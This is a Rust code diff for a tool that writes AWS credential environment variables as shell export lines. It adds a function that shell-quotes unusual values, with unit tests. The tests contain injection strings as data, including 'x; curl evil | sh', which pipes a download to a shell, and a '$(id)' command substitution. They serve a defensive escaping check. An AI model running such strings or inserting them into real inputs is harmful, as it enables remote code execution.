@@ -49,10 +49,32 @@ impl Access {
     pub(super) fn lines(&self) -> String {
         let mut text = String::new();
         for (name, value) in self.variables() {
-            let _ = writeln!(text, "export {name}={value}");
+            let _ = writeln!(text, "export {name}={}", quoted(value));
         }
         let token = if self.session_token.is_none() { "AWS_SESSION_TOKEN " } else { "" };
         let _ = writeln!(text, "unset {token}{}", MISLEADING.join(" "));
         text
+    }
+}
+
+/// Quotes a value for a shell, if it has other characters than those of credentials, Regions and URLs.
+fn quoted(value: &str) -> String {
+    let is_plain = |it: char| it.is_ascii_alphanumeric() || "/+=._:-".contains(it);
+    if !value.is_empty() && value.chars().all(is_plain) {
+        return value.to_owned();
+    }
+    format!("'{}'", value.replace('\'', r"'\''"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::quoted;
+
+    #[test]
+    fn a_value_with_other_characters_is_quoted_for_a_shell() {
+        assert_eq!(quoted("http://127.0.0.1:80"), "http://127.0.0.1:80");
+        assert_eq!(quoted("x; curl evil | sh"), "'x; curl evil | sh'");
+        assert_eq!(quoted("it's $(id)"), r"'it'\''s $(id)'");
+        assert_eq!(quoted("http://[::1]:80"), "'http://[::1]:80'");
     }
 }
